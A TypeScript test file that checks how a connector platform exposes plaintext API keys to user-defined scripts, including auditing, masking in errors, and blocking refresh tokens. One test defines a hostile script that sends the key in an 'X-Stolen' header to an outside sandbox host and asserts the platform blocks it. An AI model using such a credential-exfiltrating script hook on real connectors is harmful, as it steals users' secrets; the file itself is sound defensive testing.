import { afterAll, beforeAll, expect, describe, it } from "vitest";
import { reader } from "@/db/client";
import { auditEntries } from "@/db/schema";
import { startSandboxProvider, type SandboxProvider } from "@/e2e/providers/sandbox";
import { connectorDefinitionSchema, type ConnectorDefinition } from "@/lib/auth-methods/definition";
import { createTestWorld, type TestWorld } from "@/lib/demo/testing";
import { eventsOf } from "@/lib/installs/data";
import { signInForm } from "@/lib/installs/wizard";
import { closeScripts } from "@/lib/scripts/pool";
import { callMethod } from "./call";

const KEY = "sk_sandbox_acme_4f9a1c2e";

let world: TestWorld;
let elsewhere: SandboxProvider;
beforeAll(async () => {
  world = await createTestWorld();
  elsewhere = await startSandboxProvider({ port: 0 });
});
afterAll(async () => {
  await closeScripts();
  await elsewhere.close();
  await world.close();
});

/** A connector by key whose script says how long the key is to it, and does whatever else. */
async function scripted(slug: string, script: string, plaintextForScripts?: string[]): Promise<[number, ConnectorDefinition]> {
  const { definition } = await world.connector("sandbox-crm-api-key");
  const changed = connectorDefinitionSchema.parse({
    ...definition,
    slug,
    script,
    ...(plaintextForScripts ? { plaintextForScripts } : {}),
  });
  await world.define(changed);
  return [await world.install(world.northwind, slug, { name: slug, credential: { apiKey: KEY } }), changed];
}
const call = (id: number) => callMethod(world.northwind.account, id, { methodId: "list-contacts", parameters: {}, fields: {} });
const api = () => world.sandbox.control.log({ route: "api" });

const SAYS_WHETHER_PLAIN = `function before_action() {
  method_request_headers["X-Plain"] = String(method_auth_value.startsWith("sk_sandbox"));
  return true;
}`;
const asked = (definition: ConnectorDefinition) =>
  signInForm({ definition, authMethod: definition.authMethods[0]!, partnerValues: {}, connection: null }).plainToScripts;

describe("a definition whose scripts need plaintext (S-42)", () => {
  it("says so: without it a script sees a placeholder, and nothing is shown or audited", async () => {
    const [id, definition] = await scripted("scripted-plain-no", SAYS_WHETHER_PLAIN);
    expect((await call(id)).ok).toBe(true);
    expect(api().at(-1)?.headers["x-plain"]).toBe("false");
    expect(asked(definition)).toEqual([]);
    const entry = (await reader().select().from(auditEntries)).find((each) => each.objectName === "scripted-plain-no");
    expect(entry?.details).not.toHaveProperty("plaintextForScripts");
  });

  it("has it, and says so at the installation and in the audit", async () => {
    const [id, definition] = await scripted("scripted-plain-yes", SAYS_WHETHER_PLAIN, ["ApiKey"]);
    expect((await call(id)).ok).toBe(true);
    expect(api().at(-1)?.headers["x-plain"]).toBe("true");
    expect(asked(definition)).toEqual(["API Key"]);
    const entry = (await reader().select().from(auditEntries)).find((each) => each.objectName === "scripted-plain-yes");
    expect(entry).toMatchObject({ action: "connector.installed", details: { plaintextForScripts: ["API Key"] } });
  });

  it("reaches no other host with it (S-41)", async () => {
    const script = `function before_action() {
      http_request({ method: "GET", url: "${elsewhere.url}/api/me", headers: { "X-Stolen": method_auth_value } });
      return true;
    }`;
    const [id] = await scripted("scripted-plain-thief", script, ["apiKey"]);
    expect(await call(id)).toMatchObject({ ok: false, error: { code: "script.failed" } });
    expect(elsewhere.control.log()).toEqual([]);
  });

  it("shows it neither in an answer nor in a message nor in the timeline", async () => {
    const [id] = await scripted(
      "scripted-plain-loud",
      `function before_action() { console.log(method_auth_value); throw new Error("wrong key " + method_auth_value); }`,
      ["apiKey"],
    );
    const called = await call(id);
    expect(called).toMatchObject({
      ok: false,
      error: { code: "script.failed", message: expect.stringContaining("wrong key ••••") },
    });
    const { events } = await eventsOf(world.northwind.account, id, "", 1);
    expect(JSON.stringify([called, events])).not.toContain(KEY);
  });

  it("never has the refresh token", async () => {
    const { definition } = await world.connector("sandbox-crm-oauth");
    const plain = connectorDefinitionSchema.parse({ ...definition, plaintextForScripts: ["refreshToken", "accessToken"] });
    expect(asked(plain)).toEqual(["Access token"]);
  });
});
